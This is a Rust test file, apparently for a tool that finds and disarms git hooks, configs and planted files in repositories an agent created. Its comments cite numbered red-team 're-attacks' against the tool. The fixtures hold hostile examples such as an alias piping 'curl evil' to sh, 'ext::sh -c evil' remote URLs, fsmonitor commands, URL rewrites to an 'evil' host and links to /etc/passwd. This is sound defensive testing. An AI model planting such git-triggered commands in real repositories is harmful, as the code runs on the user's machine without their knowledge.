        // After 4 MiB of comments (git reads the whole file: the forty-second re-attack's N6).
        let padded = format!("{}[options]\n\tstrategy = ../../.cache/m\n", "# pad\n".repeat(800_000));
        std::fs::write(&opts, padded).unwrap();
        assert!(names_a_strategy_path(&opts));
        std::fs::write(&opts, "[options]\n\tstrategy = ort\n").unwrap();
        assert!(!names_a_strategy_path(&opts), "git's own");
    }

    /// What ignores a `.gitignore` itself, as git reads a line, and what does not.
    #[test]
    fn a_gitignore_that_hides_itself_is_told() {
        for hides in [
            ".gitignore",
            "/.gitignore",
            "**/.gitignore",
            "*",
            ".*",
            ".git*",
            "*ignore",
            "[.]gitignore",
            ".gitignor?",
            ".[a-h]itignore",
            ".[!x]itignore",
            "**",
            ".gitignore  ",
            "\\.gitignore",
            "[[:alpha:].]gitignore",
            // Folding case, as git does with `core.ignorecase` (the forty-ninth re-attack's C1,
            // the fiftieth's C2).
            ".GitIgnore",
            "*.GITIGNORE",
            ".GIT*",
            "*[[:upper:]]",
            "*[D-a]",
        ] {
            assert!(hides_a_gitignore(hides), "{hides:?}");
        }
        for keeps in [
            "# .gitignore",
            "!.gitignore",
            ".gitignore/",
            "sub/.gitignore",
            "*.log",
            "node_modules",
            "",
            ".[!g]itignore",
            "[abc",
            ".git",
            "\\#.gitignore",
        ] {
            assert!(!hides_a_gitignore(keeps), "{keeps:?}");
        }
    }

    /// [`surely_ignored`] against git itself (`git check-ignore`): it says yes only where git
    /// ignores the directory, reading the file's bytes as git does and stopping at another
    /// repository on the way; a `.gitignore` changed since the launch is not taken at its word.
    #[test]
    fn a_directory_is_surely_ignored_only_where_git_ignores_it() {
        let temp = tempfile::tempdir().unwrap();
        let repo = temp.path();
        let git = |args: &[&str]| std::process::Command::new("git").args(args).current_dir(repo).output();
        if !git(&["init", "-q"]).is_ok_and(|output| output.status.success()) {
            return;
        }
        let dirs =
            ["target", "lib/target", "lib/target/deep", ".venv", "a/.cache", "x/__pycache__", "build/out/target"];
        for dir in dirs {
            std::fs::create_dir_all(repo.join(dir)).unwrap();
        }
        let launched = now_in_file_time() + 60_000_000_000;
        let cases: [(&str, &str, &[&str]); 10] = [
            ("", "target/\n", &["target", "lib/target", "lib/target/deep", "build/out/target"]),
            ("", "/target\n", &["target"]),
            ("", "**/target/\n.venv\n", &["target", "lib/target", "lib/target/deep", "build/out/target", ".venv"]),
            ("", "lib/\n*.cache\n__pycache__/\n", &["lib/target", "lib/target/deep", "a/.cache", "x/__pycache__"]),
            ("", "build/*/target\n", &["build/out/target"]),
            ("lib", "target\n", &["lib/target", "lib/target/deep"]),
            ("lib", "/target/\n", &["lib/target", "lib/target/deep"]),
            // A negation anywhere leaves a doubt: nothing is surely ignored.
            ("", "target/\n!lib/target\n", &[]),
            ("", "# target/\n\\!target\n", &[]),
            ("", "\u{feff}.venv \n", &[".venv"]),
        ];
        for (at, lines, ignored) in cases {
            let file = repo.join(at).join(".gitignore");
            std::fs::write(&file, lines).unwrap();
            for dir in dirs {
                let surely = surely_ignored(repo, &repo.join(dir), launched);
                assert_eq!(surely, ignored.contains(&dir), "{at}/.gitignore {lines:?}: {dir}");
                let checked = git(&["check-ignore", "-q", &format!("{dir}/")]).unwrap().status.success();
                assert!(!surely || checked, "{at}/.gitignore {lines:?}: git does not ignore {dir}");
            }
            std::fs::remove_file(&file).unwrap();
        }
        // Read as git reads the file's bytes (the forty-ninth re-attack's B1): a byte-order mark
        // only at its start, one `\r` before a line's end, bytes that are not UTF-8 kept.
        for (lines, ignored) in [
            (&b"\xef\xbb\xbf.venv\n"[..], true),
            (b"# notes\n\xef\xbb\xbf.venv\n", false),
            (b".venv\r\r\n", false),
            (b".venv\r\n", true),
            (b"\xff\xfe\n.venv\n", true),
            (b"\xff.venv\n", false),
        ] {
            std::fs::write(repo.join(".gitignore"), lines).unwrap();
            let surely = surely_ignored(repo, &repo.join(".venv"), launched);
            assert_eq!(surely, ignored, "{lines:?}");
            assert_eq!(git(&["check-ignore", "-q", ".venv/"]).unwrap().status.success(), ignored, "{lines:?}");
        }
        // Another repository on the way (a linked worktree, a submodule, a nested clone) has its
        // own rules, which the outer ones do not reach (the forty-ninth re-attack's G3).
        std::fs::write(repo.join(".gitignore"), "target/\nlib/\n").unwrap();
        assert!(surely_ignored(repo, &repo.join("lib/target"), launched));
        std::fs::write(repo.join("lib/.git"), "gitdir: ../.git/worktrees/lib\n").unwrap();
        assert!(!surely_ignored(repo, &repo.join("lib/target"), launched));
        assert!(!surely_ignored(repo, &repo.join("lib/target/deep"), launched));
        assert!(!surely_ignored(repo, &repo.join("lib"), launched), "a repository's top itself");
        assert!(surely_ignored(repo, &repo.join("target"), launched));
        std::fs::remove_file(repo.join("lib/.git")).unwrap();

        // A `.gitignore` changed since the launch is not taken at its word.
        std::fs::write(repo.join(".gitignore"), "target/\n").unwrap();
        assert!(surely_ignored(repo, &repo.join("target"), launched));
        assert!(!surely_ignored(repo, &repo.join("target"), now_in_file_time() - 60_000_000_000));
    }

    /// Now, in nanoseconds as file times read it.
    fn now_in_file_time() -> i128 {
        std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos() as i128
    }

    /// [`hides_a_gitignore`] against git itself (`git check-ignore`, with and without
    /// `core.ignorecase`), where git is installed: the forms the forty-fourth re-attack found
    /// (Q1–Q3) and patterns made from `.gitignore` by inserting, replacing and removing wildcard
    /// characters (a fixed seed; more with `AILERON_WILDMATCH_CASES`).
    #[test]
    fn a_gitignore_that_hides_itself_is_told_as_git_tells_it() {
        let temp = tempfile::tempdir().unwrap();
        let repo = temp.path();
        let git = |args: &[&str]| std::process::Command::new("git").args(args).current_dir(repo).output();
        if !git(&["init", "-q"]).is_ok_and(|output| output.status.success()) {
            return;
        }
        std::fs::create_dir(repo.join("t")).unwrap();
        let mut patterns: Vec<String> = [
            "\u{feff}*",
            "*\0 notes",
            "[!/]*",
            ".git**/ignore",
            "[--/]gitignore",
            ".[/g[]itignore",
            "[^/]*",
            "*[!/]",
            "**[!/]",
            "[]]gitignore",
            "[!]]gitignore",
            ".gitignor[]e]",
            "*[[:alpha:]]",
            "**.gitignore",
            "*/../.gitignore",
            "[\\-]gitignore",
            ".gitignore\\",
            "\\*",
            "[[:alpha:]-.]gitignore",
            "[^.]gitignore",
            "[\\]]gitignore",
            "*\r",
            ".gitignore\\ ",
            "/**",
            "**/*",
            "*/",
            "a/**/b",
            "**/.git*",
            "/.*",
            ".g*/",
        ]
        .map(str::to_string)
        .to_vec();
        let specials = [
            "*",
            "?",
            "[",
            "]",
            "!",
            "^",
            "-",
            "\\",
            "/",
            ":",
            " ",
            ".",
            "g",
            "G",
            "[:alpha:]",
            "**",
            "[]",
            "[:upper:]",
            "D-a",
            "I",
        ];
        let cases = std::env::var("AILERON_WILDMATCH_CASES").ok().and_then(|n| n.parse().ok()).unwrap_or(300);
        let mut seed: u64 = 0x9e37_79b9_7f4a_7c15;
        let mut next = |below: usize| {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            (seed % below as u64) as usize
        };
        for _ in 0..cases {
            let mut parts: Vec<String> = ".gitignore".chars().map(String::from).collect();
            for _ in 0..1 + next(4) {
                let (at, choice, special) = (next(parts.len() + 1), next(10), specials[next(specials.len())]);
                let last = parts.len().saturating_sub(1);
                match choice {
                    0..5 => parts.insert(at, special.to_string()),
                    5..8 if !parts.is_empty() => parts[at.min(last)] = special.to_string(),
                    _ if !parts.is_empty() => drop(parts.remove(at.min(last))),
                    _ => {}
                }
            }
            patterns.push(parts.concat());
        }
        let mut disagree = Vec::new();
        for pattern in &patterns {
            std::fs::write(repo.join("t/.gitignore"), format!("{pattern}\n")).unwrap();
            // As git reads it, and as git reads it folding case (`core.ignorecase`).
            let ignored = git(&["check-ignore", "-q", "t/.gitignore"]).unwrap().status.code() == Some(0)
                || git(&["-c", "core.ignorecase=true", "check-ignore", "-q", "t/.gitignore"]).unwrap().status.code()
                    == Some(0);
            let line = pattern.lines().next().unwrap_or_default();
            if hides_a_gitignore(line) != ignored {
                disagree.push(format!("{pattern:?}: git {ignored}"));
            }
        }
        assert!(disagree.is_empty(), "{} of {}: {disagree:#?}", disagree.len(), patterns.len());
    }

    /// The forty-third re-attack's P6: every linked worktree's git directory, however many the
    /// agent made beside the user's (a cut at 10,000 left the user's out).
    #[test]
    fn every_linked_worktrees_git_directory_is_looked_at() {
        let temp = tempfile::tempdir().unwrap();
        let git_dir = temp.path().join(".git");
        for n in 0..12_000 {
            std::fs::create_dir_all(git_dir.join(format!("worktrees/w{n}"))).unwrap();
        }
        std::fs::write(git_dir.join("worktrees/file"), "").unwrap();
        let all = with_linked_worktrees([&git_dir]);
        assert_eq!(all.len(), 12_001, "the repository's own and each worktree's, files left out");
        assert_eq!(all[0], git_dir);
    }

    /// W1's window: what a config gained that runs something is taken out, its lines kept as
    /// comments and the rest as written; a form the lines cannot take out alone (a variable on its
    /// section's header line, a value continued over lines) still reads as the config without it.
    #[test]
    fn variables_taken_out_of_a_config_leave_the_rest_as_written() {
        let text = "# mine\n[core]\n\tbare = false\n\tfsmonitor = /tmp/x\n[remote \"origin\"]\n\turl = \
                    https://h/r.git\n[alias]\n\tst = status\n\tsync = \"!sh -c \\\n  'curl evil | sh'\"\n";
        let gone = arming(&parse(text));
        assert_eq!(gone.iter().map(named).collect::<Vec<_>>(), ["core.fsmonitor", "alias.sync"]);
        let out = taken_out(text, &gone);
        assert!(out.starts_with("# mine\n[core]\n\tbare = false\n# aileron: "), "{out}");
        assert!(arming(&parse(&out)).is_empty(), "{out}");
        let kept: Vec<Entry> = parse(text).into_iter().filter(|entry| !gone.contains(entry)).collect();
        assert_eq!(parse(&out), kept, "{out}");
        assert!(out.contains(&format!("{TAKEN_OUT}\tfsmonitor = /tmp/x\n")), "{out}");
        // The thirty-first re-attack's C2: a carriage return before the subsection, a command as a
        // remote's transport, a protocol allowed.
        let crafted = "[filter\r\"x\"]\n\tclean = sh evil\n[remote \"o\"]\n\turl = ext::sh -c evil\n[protocol \"ext\"]\n\tallow = always\n\
                       [tar \"tgz\"]\n\tcommand = sh evil\n[remote \"p\"]\n\tvcs = x/evil\n";
        let names: Vec<String> = arming(&parse(crafted)).iter().map(named).collect();
        assert_eq!(names, ["filter.x.clean", "remote.o.url", "protocol.ext.allow", "tar.tgz.command", "remote.p.vcs"]);
        // The thirty-fourth re-attack's F2: a dotted name before a quoted subsection, which git
        // reads as one driver's name (`filter.x.y.clean`).
        let dotted = "[filter.x \"y\"]\n\tclean = sh evil\n[diff.A \"B\"]\n\ttextconv = sh evil\n";
        let names: Vec<String> = arming(&parse(dotted)).iter().map(named).collect();
        assert_eq!(names, ["filter.x.y.clean", "diff.a.B.textconv"]);
        // On the header's line: written again from its entries.
        let inline = "[core] fsmonitor = /tmp/x\n[user]\n\tname = Ada\n";
        let out = taken_out(inline, &arming(&parse(inline)));
        assert!(arming(&parse(&out)).is_empty() && out.starts_with(TAKEN_OUT), "{out}");
        assert_eq!(parse(&out), parse("[user]\n\tname = Ada\n"), "{out}");
    }

    /// The thirty-third re-attack's E1 (`remote.<name>.vcs`, missing from what runs something):
    /// what a replaced config gained is taken out unless it is known to be harmless, so a variable
    /// that sends the user's git elsewhere (a trace socket, a proxy with its server unchecked, a
    /// rewritten URL, an alias with `-c`) or that this reading does not know goes too, while what
    /// users set as they work stays.
    #[test]
    fn what_a_config_gains_is_taken_out_unless_it_is_known_to_be_harmless() {
        let worked = "[core]\n\tbare = false\n\tautocrlf = input\n[branch \"main\"]\n\tremote = origin\n\tmerge = \
                      refs/heads/main\n[pull]\n\trebase = true\n[color]\n\tui = auto\n[remote \"o\"]\n\turl = https://h/r.git\n\
                      [submodule \"s\"]\n\tupdate = rebase\n[user]\n\temail = ada@example.com\n";
        assert_eq!(not_known_harmless(&parse(worked)), []);
        let servers = "[remote \"a\"]\n\turl = git@github.com:o/r.git\n\tpushurl = ssh://h/r\n[submodule \"s\"]\n\t\
                       url = https://h/s.git\n";
        assert_eq!(not_known_harmless(&parse(servers)), []);
        let gained = "[trace2]\n\teventTarget = af_unix:/w/s\n[http]\n\tsslVerify = false\n\tpostBuffer = 1048576\n\
                      [url \"https://evil/\"]\n\tinsteadOf = https://github.com/\n[extensions]\n\tworktreeConfig = true\n\
                      [alias]\n\tx = -c core.fsmonitor=evil status\n[future]\n\tsomething = x\n[remote \"o\"]\n\tvcs = x/evil\n\
                      \turl = ext::sh -c evil\n[submodule \"s\"]\n\tupdate = !sh evil\n[diff]\n\texternal = evil\n\
                      \talgorithm = histogram\n[core]\n\tgitProxy = evil\n[http]\n\tcookieFile = ~/.bashrc\n\
                      [remote \"o\"]\n\tpushurl = node_modules/.cache/r.git\n[gc]\n\trecentObjectsHook = sh evil\n\
                      \tauto = 1\n[rebase]\n\tinstructionFormat = \"%s%nexec evil\"\n[branch \"feature\"]\n\t\
                      pushRemote = node_modules/.cache/x.git\n\tremote = origin\n";
        let names: Vec<String> = not_known_harmless(&parse(gained)).iter().map(named).collect();
        assert_eq!(
            names,
            [
                "trace2.eventtarget",
                "http.sslverify",
                "url.https://evil/.insteadof",
                "extensions.worktreeconfig",
                "alias.x",
                "future.something",
                "remote.o.vcs",
                "remote.o.url",
                "submodule.s.update",
                "diff.external",
                "core.gitproxy",
                "http.cookiefile",
                "remote.o.pushurl",
                "gc.recentobjectshook",
                "rebase.instructionformat",
                "branch.feature.pushremote"
            ]
        );
    }

    /// The thirteenth re-attack: 100,001 files at the top of `.git` spent the look for links
    /// before `logs/` was reached, and nothing was said; a FIFO as `COMMIT_EDITMSG` hung the
    /// user's every commit. The names git writes are looked at first, `logs/` within a budget of
    /// its own, special files are strays too, and a look cut short says so.
    #[test]
    fn strays_are_found_by_name_before_any_walk_and_a_walk_cut_short_is_told() {
        let temp = tempfile::tempdir().unwrap();
        let git = std::fs::canonicalize(temp.path()).unwrap().join(".git");
        std::fs::create_dir_all(git.join("logs/refs/heads")).unwrap();
        std::fs::create_dir_all(git.join("refs/heads/deep")).unwrap();
        std::fs::write(git.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        std::os::unix::fs::symlink("../../outside", git.join("logs/HEAD")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", git.join("logs/refs/heads/main")).unwrap();
        std::os::unix::fs::symlink("../../x", git.join("refs/heads/deep/link")).unwrap();
        std::os::unix::fs::symlink("HEAD", git.join("inside")).unwrap();
        nix::unistd::mkfifo(&git.join("COMMIT_EDITMSG"), nix::sys::stat::Mode::S_IRWXU).unwrap();
        let whole = strays_within(std::slice::from_ref(&git), 100);
        let mut found: Vec<PathBuf> = whole.found.into_iter().collect();
        found.sort();
        let expected = ["COMMIT_EDITMSG", "inside", "logs/HEAD", "logs/refs/heads/main", "refs/heads/deep/link"];
        assert_eq!(found, expected.map(|name| git.join(name)));
        assert!(whole.incomplete.is_empty());
        for n in 0..20 {
            std::fs::write(git.join(format!(".pad{n}")), "").unwrap();
        }
        let cut = strays_within(std::slice::from_ref(&git), 10);
        for name in ["COMMIT_EDITMSG", "logs/HEAD", "logs/refs/heads/main"] {
            assert!(cut.found.contains(&git.join(name)), "{name}: {:?}", cut.found);
        }
        assert_eq!(cut.incomplete, vec![git]);
    }

    /// The fifty-second re-attack's G1: git reads an alternate's path up to `\n` alone, a `\r`
    /// before it kept (`git count-objects -v` names `alt\r`), a quoted one unquoted, `#` a comment.
    #[test]
    fn alternates_are_read_as_git_reads_them() {
        let temp = tempfile::tempdir().unwrap();
        let objects = temp.path().join("objects");
        std::fs::create_dir_all(objects.join("info")).unwrap();
        std::fs::write(objects.join("info/alternates"), "g\r\n# note\n\n\"q\\tx\"\n/abs\n").unwrap();
        let found = alternate_object_dirs(&objects);
        let expected: Vec<PathBuf> = vec![objects.join("g\r"), objects.join("q\tx"), PathBuf::from("/abs")];
        assert_eq!(found, expected);
        // The fifty-fourth re-attack's Z4, each as `git count-objects -v` names it: after a quoted
        // entry git reads on one byte after the quote; the file ends at a NUL; a bad escape or no
        // closing quote is the text as written; three octal digits are a byte.
        for (text, named) in [
            (&b"\"x\" g\n"[..], &[&b"x"[..], b"g"][..]),
            (b"\"x\"\ng\n", &[b"x", b"g"]),
            (b"g\0h\nk\n", &[b"g"]),
            (b"\"g\\q\"\n", &[b"\"g\\q\""]),
            (b"\"g\\1x\"\n", &[b"\"g\\1x\""]),
            (b"\"g\\101\"\n", &[b"gA"]),
            (b"\"open\n", &[b"\"open"]),
        ] {
            assert_eq!(alternates_named(text), named.to_vec(), "{:?}", String::from_utf8_lossy(text));
        }
    }

    /// The fifty-first re-attack's Y1: `node --test` enters a `.git` (its `objects/` too), and
    /// git lists nothing there, so a `.git/cache.test.js` ran at the user's `npm test`. A file a
    /// test runner picks up by its name is a stray wherever it lies in a git directory, one that is
    /// all extension (`test/.js`, the fifty-fifth re-attack's T1) too, and so is a link of any
    /// name in `objects/` (T2); git's own files and its hooks' samples are not.
    #[test]
    fn files_a_test_runner_picks_up_are_strays_in_a_git_directory() {
        let temp = tempfile::tempdir().unwrap();
        let git = std::fs::canonicalize(temp.path()).unwrap().join(".git");
        for dir in ["objects/ab", "objects/pack", "hooks", "rr-cache/1f", "logs/refs/heads", "refs/heads", "test"] {
            std::fs::create_dir_all(git.join(dir)).unwrap();
        }
        for own in [
            "HEAD",
            "packed-refs",
            "objects/ab/cdef0123456789abcdef0123456789abcdef01",
            "objects/pack/pack-1.pack",
            "objects/pack/pack-1.idx",
            "hooks/pre-commit.sample",
            "rr-cache/1f/preimage",
            "logs/refs/heads/main",
            "refs/heads/main",
        ] {
            std::fs::write(git.join(own), "x").unwrap();
        }
        std::os::unix::fs::symlink("../pack", git.join("objects/ab/linked")).unwrap();
        std::os::unix::fs::symlink("payload", git.join("objects/ab/linked.test.js")).unwrap();
        let planted = [
            "cache.test.js",
            "objects/ab/x.test.mjs",
            "objects/ab/linked.test.js",
            "test/.js",
            "rr-cache/1f/conftest.py",
            "refs/heads/spec.TS",
        ];
        for file in planted {
            std::fs::write(git.join(file), "x").unwrap();
        }
        let mut found: Vec<PathBuf> = strays_within(std::slice::from_ref(&git), 100).found.into_iter().collect();
        found.sort();
        let mut expected = planted.map(|name| git.join(name)).to_vec();
        expected.push(git.join("objects/ab/linked"));
        expected.sort();
        assert_eq!(found, expected);
        // The hint's `find` for a directory too large to walk lists the same files (the
        // fifty-seventh re-attack's R6).
        let script = format!("find {} -type f \\( {} \\) -print", git.display(), runner_code_find());
        let listed = std::process::Command::new("sh").args(["-c", &script]).output().unwrap();
        let mut listed: Vec<PathBuf> = String::from_utf8_lossy(&listed.stdout).lines().map(PathBuf::from).collect();
        listed.sort();
        let mut files: Vec<PathBuf> =
            planted.iter().filter(|name| !name.contains("linked")).map(|name| git.join(name)).collect();
        files.sort();
        assert_eq!(listed, files);
    }

    #[test]
    fn a_config_is_read_as_git_reads_it() {
        let text = "[core]\n\tfsmonitor = \"./tools/fsmonitor.sh\" ; note\n\tbare\n[include]\n\tpath = a.inc\n\t\
                    Path = \"b c.inc\" # note\n[includeIf \"gitdir:~/work/\"]\n\tpath = ~/work.inc\n\
                    [filter \"lfs\"]\n\tclean = git-lfs clean -- %f\n[Diff.Pdf]\n\ttextconv = sh \\\n\t  ./bin/pdf2txt\n\
                    [alias]\n\tst = status\n\tx = !./scripts/x --go\n[user] name = A \"B\" C  \n";
        let entries = parse(text);
        let included: Vec<_> =
            entries.iter().filter(|entry| entry.key == "path").filter_map(|e| e.value.clone()).collect();
        assert_eq!(included, vec!["a.inc", "b c.inc", "~/work.inc"]);
        let (paths, words) = program_words(&entries);
        assert_eq!(paths, vec!["./tools/fsmonitor.sh", "./bin/pdf2txt", "./scripts/x"]);
        assert_eq!(words, vec!["clean", "--", "%f", "--go"], "arguments that may be files of the worktree");
        let bom = parse("\u{feff}[core]\n\tfsmonitor = touch /tmp/x\n");
        assert_eq!(bom.len(), 1, "a byte-order mark is skipped, as git skips it: {bom:?}");
        let name = entries.iter().find(|entry| entry.is("user", "name")).unwrap();
        assert_eq!(name.value.as_deref(), Some("A B C"));
        let bare = entries.iter().find(|entry| entry.is("core", "bare")).unwrap();
        assert_eq!(bare.value, None);
        let textconv = entries.iter().find(|entry| entry.key == "textconv").unwrap();
        assert_eq!(textconv.subsection.as_deref(), Some("pdf"), "the old form is lower-cased");
        assert_eq!(hooks_path(&parse("[core]\n\thooksPath = .husky/_\n")).as_deref(), Some(".husky/_"));
        assert!(sha256(&parse("[extensions]\n\tobjectFormat = sha256\n")));
    }

    /// What would run in a repository the agent made is found; a `.git` file naming a git
    /// directory outside what the agent could write (another repository of the user's) gets
    /// nothing of it moved.
    #[test]
    fn only_a_git_directory_the_agent_could_write_is_disarmed() {
        let temp = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(temp.path()).unwrap();
        let (workspace, elsewhere) = (root.join("work"), root.join("users-other-repo/.git"));
        for git in [workspace.join("made/.git"), elsewhere.clone()] {
            std::fs::create_dir_all(git.join("hooks")).unwrap();
            std::fs::write(git.join("hooks/post-checkout"), "#!/bin/sh\n").unwrap();
            std::fs::write(git.join("hooks/pre-commit.sample"), "#!/bin/sh\n").unwrap();
            std::fs::write(git.join("config"), "[core]\n\tfsmonitor = touch /tmp/x\n").unwrap();
            std::fs::write(git.join("commondir"), "../elsewhere\n").unwrap();
        }
        let writable = [workspace.clone()];
        let made = workspace.join("made/.git");
        let expected = [made.join("commondir"), made.join("config"), made.join("hooks/post-checkout")];
        assert_eq!(armed_files(&workspace.join("made"), &writable, &[]), Some(expected.to_vec()));
        std::fs::write(made.join("config"), "[core]\n\tbare = false\n").unwrap();
        let armed = armed_files(&workspace.join("made"), &writable, &[]).unwrap();
        assert_eq!(armed.len(), 2, "a config that runs nothing stays");
        assert_eq!(armed_files(&workspace.join("made"), &writable, &[made.clone()]), None, "there at launch");
        std::fs::create_dir_all(workspace.join("pointer")).unwrap();
        std::fs::write(workspace.join("pointer/.git"), format!("gitdir: {}\n", elsewhere.display())).unwrap();
        assert_eq!(armed_files(&workspace.join("pointer"), &writable, &[]), None);
        // The fifth re-attack: `hooks` a link to the user's own directory is moved itself, never
        // listed through; a config that is a FIFO is moved unread (a read would never end).
        let linked = workspace.join("linked/.git");
        std::fs::create_dir_all(&linked).unwrap();
        std::os::unix::fs::symlink(elsewhere.join("hooks"), linked.join("hooks")).unwrap();
        nix::unistd::mkfifo(&linked.join("config"), nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
        let armed = armed_files(&workspace.join("linked"), &writable, &[]);
        assert_eq!(armed, Some(vec![linked.join("config"), linked.join("hooks")]));
    }

    /// A `.git` file is read as git reads it: the whole name after `gitdir: `, line breaks inside
    /// it kept, only the trailing ones dropped; a bare repository is its own git directory.
    #[test]
    fn a_git_file_and_a_bare_repository_name_their_git_directory_as_git_does() {
        let temp = tempfile::tempdir().unwrap();
        let checkout = temp.path().join("sub");
        std::fs::create_dir_all(&checkout).unwrap();
        std::fs::write(checkout.join(".git"), "gitdir: gd\nX\r\n\n").unwrap();
        assert_eq!(git_dir(&checkout), Some(checkout.join("gd\nX")));
        std::fs::write(checkout.join(".git"), "gitdir:gd\n").unwrap();
        assert_eq!(git_dir(&checkout), None, "git refuses a gitfile without the space");
        // The sixth re-attack: git stops at a NUL, and reads a `.git` file of up to a MiB.
        std::fs::write(checkout.join(".git"), "gitdir: gd\0x\n").unwrap();
        assert_eq!(git_dir(&checkout), Some(checkout.join("gd")));
        std::fs::write(checkout.join(".git"), format!("gitdir: gd{}", "\n".repeat(8000))).unwrap();
        assert_eq!(git_dir(&checkout), Some(checkout.join("gd")));
        let bare = temp.path().join("src");
        for dir in ["objects", "refs"] {
            std::fs::create_dir_all(bare.join(dir)).unwrap();
        }
        assert_eq!(git_dir(&bare), None);
        std::fs::write(bare.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        assert_eq!(git_dir(&bare), Some(bare.clone()), "HEAD, objects and refs make a git directory");
        // The fifth re-attack: `HEAD` a link to a ref git does not follow, and `objects` and
        // `refs` where a `commondir` says.
        let other = temp.path().join("lib");
        std::fs::create_dir_all(other.join("c/objects")).unwrap();
        std::fs::create_dir_all(other.join("c/refs")).unwrap();
        std::os::unix::fs::symlink("refs/heads/only-packed", other.join("HEAD")).unwrap();
        assert!(!is_git_directory(&other), "no objects or refs yet");
        std::fs::write(other.join("commondir"), "c\n").unwrap();
        assert!(is_git_directory(&other), "objects and refs through commondir, HEAD a dangling link to a ref");
        std::fs::write(other.join("commondir"), "c\0x\n").unwrap();
        assert!(is_git_directory(&other), "a commondir read up to its NUL, as git reads it");
        // `objects` and `refs` need only be searchable: executable files pass git's test.
        let files = temp.path().join("files");
        std::fs::create_dir_all(&files).unwrap();
        std::fs::write(files.join("HEAD"), "ref: refs/heads/main\n").unwrap();
        for name in ["objects", "refs"] {
            std::fs::write(files.join(name), "").unwrap();
            std::fs::set_permissions(files.join(name), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
        }
        assert!(is_git_directory(&files), "executable files for objects and refs");
        std::fs::remove_file(other.join("HEAD")).unwrap();
        std::os::unix::fs::symlink("/etc/passwd", other.join("HEAD")).unwrap();
        assert!(!is_git_directory(&other), "a HEAD linking outside refs/ is not git's");
    }

    /// The index git itself writes, in each version: its submodules are found, its files are not.
    #[test]
    fn the_index_names_its_submodules_in_every_version() {
        let git = |dir: &Path, args: &[&str]| {
            let status = std::process::Command::new("git")
                .args(args)
                .current_dir(dir)
                .env("GIT_CONFIG_NOSYSTEM", "1")
                .env("HOME", dir)
                .stdout(std::process::Stdio::null())
                .stderr(std::process::Stdio::null())
                .status();
            status.is_ok_and(|status| status.success())
        };
        let temp = tempfile::tempdir().unwrap();
        let repo = temp.path();
        if !git(repo, &["init", "-q"]) {
            return; // no git here: nothing could run a submodule's config either
        }
        std::fs::create_dir_all(repo.join("a/b")).unwrap();
        std::fs::write(repo.join("a/b/file"), "x").unwrap();
        std::fs::write(repo.join("a/file-with-a-longer-name"), "y").unwrap();
        let commit = "0123456789abcdef0123456789abcdef01234567";
        assert!(git(repo, &["update-index", "--add", "a/b/file", "a/file-with-a-longer-name"]));
        for path in ["node_modules/x", "a/deep/er/sub"] {
            assert!(git(repo, &["update-index", "--add", "--cacheinfo", &format!("160000,{commit},{path}")]));
        }
        for version in ["2", "3", "4"] {
            assert!(git(repo, &["update-index", "--index-version", version]));
            let found = submodules(&repo.join(".git"), &mut INDEX_BYTES_PER_LOOK.clone()).0;
            assert_eq!(found, vec![PathBuf::from("a/deep/er/sub"), PathBuf::from("node_modules/x")], "v{version}");
        }
        // An entry with extended flags (an intent to add) in an index relabelled as version 2:
        // git reads the flags all the same, and so must this (the fourth re-attack).
        std::fs::write(repo.join("later"), "z").unwrap();
        assert!(git(repo, &["update-index", "--index-version", "3"]));
        assert!(git(repo, &["add", "-N", "later"]));
        let mut bytes = std::fs::read(repo.join(".git/index")).unwrap();
        assert_eq!(bytes[7], 3, "git writes version 3 for extended flags");
        bytes[7] = 2;
        assert_eq!(gitlinks(&bytes[..], 20).len(), 2, "relabelled as version 2");
        assert!(git(repo, &["update-index", "--split-index"]));
        assert_eq!(submodules(&repo.join(".git"), &mut INDEX_BYTES_PER_LOOK.clone()).0.len(), 2, "split index");
        assert!(gitlinks(&b"DIRC\0\0\0\x02\0\0\0\x09short"[..], 20).is_empty(), "a cut index ends the read");
        // Behind a link (git follows it), the index is read all the same.
        std::fs::rename(repo.join(".git/index"), repo.join(".git/index.real")).unwrap();
        std::os::unix::fs::symlink("index.real", repo.join(".git/index")).unwrap();
        assert!(!submodules(&repo.join(".git"), &mut INDEX_BYTES_PER_LOOK.clone()).0.is_empty(), "a linked index");
        // One too large to read is named, not read (a sparse file: no disk used).
        let huge = std::fs::File::create(repo.join(".git/sharedindex.huge")).unwrap();
        huge.set_len(MAX_INDEX_BYTES + 1).unwrap();
        assert_eq!(
            submodules(&repo.join(".git"), &mut INDEX_BYTES_PER_LOOK.clone()).1,
            vec![repo.join(".git/sharedindex.huge")]
        );
        // Many under the size each, linked to one: read until the look's budget is spent, then
        // named (the seventh re-attack's 10,000 links to one sparse index).
        std::fs::remove_file(repo.join(".git/sharedindex.huge")).unwrap();
        let big = std::fs::File::create(repo.join("big-index")).unwrap();
        std::io::Write::write_all(&mut &big, b"DIRC\0\0\0\x02\xff\xff\xff\xff").unwrap();
        big.set_len(MAX_INDEX_BYTES - 1).unwrap();
        for n in 0..5 {
            std::os::unix::fs::symlink(repo.join("big-index"), repo.join(format!(".git/sharedindex.{n}"))).unwrap();
        }
        let mut budget = INDEX_BYTES_PER_LOOK;
        let (_, unread) = submodules(&repo.join(".git"), &mut budget);
        assert_eq!(unread.len(), 4, "{unread:?}");
    }
}
